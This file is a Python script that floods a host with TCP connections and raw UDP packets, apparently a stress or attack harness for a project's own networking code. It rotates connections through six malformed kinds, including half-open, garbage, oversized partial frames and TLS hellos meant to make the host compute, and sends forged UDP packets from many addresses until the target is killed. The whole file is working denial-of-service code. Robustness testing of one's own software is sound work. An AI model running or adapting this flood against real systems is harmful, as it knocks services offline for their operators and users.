# SPDX-License-Identifier: Apache-2.0
"""Floods a host with connections and packets until it is killed: python flood.py RATE PACKETS.

RATE: TCP connections per second, each from another source address, of six kinds in turn: closed at
once, silent, not a frame, a hello without paths, part of a long frame, a wish for TLS and then its
first message, so that the host computes.
PACKETS: UDP packets per second from random addresses: random bytes, half of them after a valid BTH.
Prints a line each second: connections and packets so far.
"""

from __future__ import annotations

import contextlib
import random
import socket
import ssl
import sys
import time
from collections import deque
from struct import pack

from attack import forge
from attack.net import ADDRESSES, PORT, crowd

from mrc.connect.oob import encode_frame
from mrc.connect.tls import TLS

TARGET = ADDRESSES["b"]
WISH = encode_frame({"type": TLS})


def tls_hello() -> bytes:
    """The first message of TLS."""
    out, context = ssl.MemoryBIO(), ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="host").do_handshake()
    return out.read()


HELLO = tls_hello()
KINDS = (
    None,
    b"",
    b"GET / HTTP/1.1\r\n\r\n",
    encode_frame(forge.hello("10.9.9.9/8")),
    b"\0\1\xff\xff" + b"[" * 60_000,
    WISH,
)


def connect(number: int, kept: deque[socket.socket]) -> None:
    made = socket.socket()
    made.setblocking(False)
    made.bind((crowd(number % 60_000), 0))
    try:
        made.connect((TARGET, PORT))
    except BlockingIOError:
        pass
    kept.append(made)


def speak(made: socket.socket, number: int) -> bool:
    """Sends the bytes of the connection's kind. False: close the connection."""
    said = KINDS[number % len(KINDS)]
    try:
        if said:
            made.send(said)
    except OSError:
        return False
    return said is not None


def go_on(made: socket.socket) -> None:
    """Sends the first message of TLS, if the host has answered the wish and nothing else."""
    try:
        if made.recv(1 << 16) == WISH:
            made.send(HELLO)
    except OSError:
        pass


def rubbish(number: int) -> list[bytes]:
    """Payloads; the second half begin with a valid BTH."""
    rng = random.Random(number)
    bodies = [rng.randbytes(rng.randrange(1, 200)) for _ in range(8)]
    return bodies + [
        pack(">BBHII", 0xC7, 0, 0xFFFF, rng.randrange(1 << 24), 0) + body for body in bodies
    ]


def main(rate: int, packets: int) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = connected = 0
    young: deque[socket.socket] = deque()
    old: deque[socket.socket] = deque()
    heads = [
        forge.packet(crowd(n), TARGET, 4000 + n, PORT, body)
        for n, body in enumerate(rubbish(1) * 4)
    ]
    start, told = time.monotonic(), 0
    while True:
        seconds = time.monotonic() - start
        while connected < rate * seconds:
            connect(connected, young)
            connected += 1
            if len(young) > 20:
                made = young.popleft()
                (old.append if speak(made, connected) else socket.socket.close)(made)
                if len(old) > 20:
                    go_on(old[-20])
            if len(old) > 3 * rate:
                old.popleft().close()
        for _ in range(min(64, int(packets * seconds) - sent)):
            raw.sendto(heads[sent % len(heads)], (TARGET, 0))
            sent += 1
        if sent >= packets * seconds:
            time.sleep(0.0005)
        if seconds > told + 1:
            told += 1
            print(connected, sent, flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
